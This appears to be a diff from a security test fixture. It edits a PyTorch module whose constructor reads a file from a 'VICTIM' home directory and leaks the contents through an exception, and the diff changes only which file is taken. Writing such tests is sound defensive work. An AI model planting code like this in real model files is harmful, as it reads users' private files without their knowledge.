@@ -10,6 +10,6 @@ from torch import nn
 class Net(nn.Module):
     def __init__(self):
         super().__init__()
-        names = torch.os.listdir(VICTIM["home"])
-        with open(VICTIM["home"] + "/" + names[0]) as file:
+        names = sorted(torch.os.listdir(VICTIM["home"]))
+        with open(VICTIM["home"] + "/" + names[-1]) as file:
             raise RuntimeError("GOT " + file.read())
